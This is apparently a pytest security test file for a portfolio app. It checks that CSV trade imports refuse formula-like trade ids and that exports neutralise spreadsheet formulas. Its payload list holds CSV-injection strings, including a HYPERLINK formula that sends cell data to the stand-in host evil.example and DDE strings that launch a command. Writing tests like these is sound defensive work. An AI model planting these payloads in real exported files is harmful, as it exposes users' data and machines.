"""CSV exports cannot carry spreadsheet formulas, and imported trade ids are validated.

Import: a trade id longer than the column (64) or with formula or other odd characters is
refused with a 422 that names the row. Export: rows stored before that check (written
here straight into the server's database) come out with every text cell neutralised, in
trades.csv and holdings.csv alike; plain negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlmodel import Session, select

from tests.security.conftest import new_user

IMPORT = "/api/v1/portfolio/import"
HEADER = "date,symbol,exchange,side,quantity,price,fees,note,trade_id\n"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
# what spreadsheets run as a formula at the start of a cell (a leading ' means text)
RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _upload(api, headers, rows: list[str]):
    body = (HEADER + "\n".join(rows) + "\n").encode()
    return api.post(IMPORT, files={"file": ("t.csv", body, "text/csv")}, headers=headers)


@pytest.mark.parametrize(
    "trade_id",
    [*PAYLOADS, "x" * 65, "A" * 10_000, "T 1", "T;1", "'quoted", "<script>"],
)
def test_import_refuses_bad_trade_ids_naming_the_row(api, trade_id):
    _, _, headers = new_user(api)
    cell = '"' + trade_id.replace('"', '""') + '"'
    rows = [
        "2024-03-04,TCS,NSE,buy,4,3950.10,0,,GOOD-1",
        f"2024-03-05,TCS,NSE,buy,1,3960,0,,{cell}",
    ]
    r = _upload(api, headers, rows)
    assert r.status_code == 422, (trade_id[:80], r.text[:300])
    assert r.json()["detail"].startswith("Row 3, trade_id:"), r.text[:300]
    assert api.get("/api/v1/portfolio/trades", headers=headers).json() == []


def test_import_keeps_broker_style_trade_ids(api):
    _, _, headers = new_user(api)
    ids = ["12345678", "T-2024/05:01#7", "fp-0a1b2c", "A" * 64]
    rows = [f"2024-03-0{i + 1},TCS,NSE,buy,1,3950,0,,{t}" for i, t in enumerate(ids)]
    r = _upload(api, headers, rows)
    assert r.status_code == 200, r.text
    stored = {t["trade_id"] for t in api.get("/api/v1/portfolio/trades", headers=headers).json()}
    assert stored == set(ids)


def _store_rows_behind_the_api(sec_server, username: str) -> None:
    from stockapp.db.models import Trade, User
    from stockapp.db.session import make_engine

    engine = make_engine(f"sqlite:///{Path(sec_server.log).with_suffix('.db')}")
    try:
        with Session(engine) as s:
            uid = s.exec(select(User.id).where(User.username == username)).one()
            for i, payload in enumerate(PAYLOADS):
                s.add(
                    Trade(
                        user_id=uid,
                        symbol="TCS" if i % 2 else "INFY",
                        market="india_nse",
                        side="buy",
                        quantity=1 + i,
                        price=Decimal("100.5"),
                        traded_at=datetime(2024, 1, 2 + i, 5, tzinfo=UTC),
                        note=payload,
                        trade_id=payload[:64],
                    )
                )
            s.add(  # a symbol that no check would let in today
                Trade(
                    user_id=uid,
                    symbol="=1+2",
                    market="india_nse",
                    side="buy",
                    quantity=1,
                    price=Decimal("10"),
                    traded_at=datetime(2024, 2, 1, 5, tzinfo=UTC),
                    trade_id=f"X-{uuid.uuid4().hex[:8]}",
                )
            )
            s.commit()
    finally:
        engine.dispose()


def _dangerous_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(RUNS_AS_FORMULA) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def test_every_text_cell_of_every_export_is_neutralised(api, sec_server):
    name, _, headers = new_user(api)
    _store_rows_behind_the_api(sec_server, name)
    trades = api.get("/api/v1/portfolio/export.csv", headers=headers)
    assert trades.status_code == 200, trades.text
    assert _dangerous_cells(trades.text) == []
    rows = list(csv.DictReader(io.StringIO(trades.text, newline="")))
    assert {r["trade_id"] for r in rows} >= {"'" + p[:64].strip() for p in PAYLOADS}
    assert {r["note"] for r in rows} >= {"'" + p for p in PAYLOADS}
    assert "'=1+2" in {r["symbol"] for r in rows}
    holdings = api.get("/api/v1/portfolio/holdings.csv", headers=headers)
    assert holdings.status_code == 200, holdings.text
    assert _dangerous_cells(holdings.text) == []
    assert "'=1+2" in holdings.text


def test_plain_numbers_stay_numbers():
    from stockapp.portfolio.csv_safe import csv_text

    text = csv_text(["a", "b", "c"], [["-12.50", Decimal("-3.25"), "-1+1"]])
    assert text.splitlines()[1] == "-12.50,-3.25,'-1+1"
